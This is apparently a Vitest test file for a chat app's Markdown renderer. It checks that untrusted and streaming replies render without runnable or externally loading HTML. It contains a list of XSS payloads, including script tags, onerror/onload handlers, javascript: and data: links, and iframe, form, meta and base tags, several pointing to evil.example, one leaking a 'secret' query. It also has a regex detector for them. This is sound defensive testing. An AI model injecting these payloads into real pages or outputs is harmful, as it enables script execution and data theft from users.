// A reply is untrusted: nothing in it may run, load from elsewhere or leave the page, not even half-way through streaming.
import fc from "fast-check";
import { IntlProvider, type Messages } from "next-intl";
import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { Markdown } from "../../../app/_components/markdown.tsx";
import { TooltipProvider } from "../../../app/_components/ui/tooltip.tsx";
import chat from "../../../messages/en/chat.json";
import common from "../../../messages/en/common.json";

const messages = { chat, common } as Messages;

function render(text: string, streaming = false): string {
  const markdown = createElement(TooltipProvider, null, createElement(Markdown, { text, streaming }));
  return renderToStaticMarkup(
    <IntlProvider locale="en" messages={messages} timeZone="UTC">
      {markdown}
    </IntlProvider>,
  );
}

/** What a page made of this HTML could run or fetch. Text that only mentions such things is not inside a tag. */
function dangers(html: string): string[] {
  const tags = html.match(/<[^>]*>/g) ?? [];
  return tags.filter(
    (tag) =>
      /^<(script|iframe|object|embed|form|meta|base|link|style|img|video|audio|svg\s+on)/i.test(tag) ||
      /\son\w+\s*=/i.test(tag) ||
      /(href|src|action|formaction|xlink:href)\s*=\s*["']?\s*(javascript|data|vbscript|file|blob):/i.test(tag),
  );
}

const ATTACKS = [
  "<script>alert(1)</script>",
  '<img src="x" onerror="alert(1)">',
  '<svg onload="alert(1)"><circle/></svg>',
  '<a href="javascript:alert(1)">x</a>',
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "![x](https://evil.example/?q=secret)",
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  '<iframe src="https://evil.example"></iframe>',
  '<form action="https://evil.example"><input name="p"></form>',
  "<style>body{background:url(https://evil.example)}</style>",
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example">',
  "<https://evil.example/`onmouseover=alert(1)`>",
  "[x]: javascript:alert(1)\n\n[x]",
];

describe("Markdown", () => {
  it("finds what it looks for", () => {
    expect(dangers('<p><img src="https://x/y"></p>')).toHaveLength(1);
    expect(dangers('<a href="javascript:x">')).toHaveLength(1);
    expect(dangers('<a onclick="x">')).toHaveLength(1);
    expect(dangers("<p>onclick=x javascript:x</p>")).toHaveLength(0);
  });

  it.each(ATTACKS)("takes the sting out of %s", (attack) => {
    expect(dangers(render(attack))).toEqual([]);
    expect(dangers(render(`text ${attack} text`))).toEqual([]);
  });

  it.each(ATTACKS)("and out of every beginning of %s", (attack) => {
    for (let length = 1; length < attack.length; length++) {
      expect(dangers(render(attack.slice(0, length), true))).toEqual([]);
    }
  });

  it("stays harmless for attacks mixed at random", () => {
    const pieces = fc.constantFrom(
      ...ATTACKS,
      "**",
      "`",
      "```\n",
      "\n\n",
      "> ",
      "<div>",
      "</div>",
      "<!--",
      "-->",
      "&lt;",
      '"',
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 6 }), (mix) => {
        expect(dangers(render(mix.join("")))).toEqual([]);
      }),
      { numRuns: 60 },
    );
  });

  it("shows code as it is, with its language and a way to copy it", () => {
    const html = render('```html\n<b onclick="x">&amp;</b>\n```');
    expect(html).toContain("&lt;b onclick=&quot;x&quot;&gt;&amp;amp;&lt;/b&gt;");
    expect(html).toContain("html");
    expect(html).toContain('aria-label="Copy code"');
  });

  it("opens links in a tab that knows nothing of this page", () => {
    const html = render("[docs](https://example.org/a)");
    expect(html).toContain('href="https://example.org/a"');
    expect(html).toContain('rel="noopener noreferrer nofollow"');
  });
});
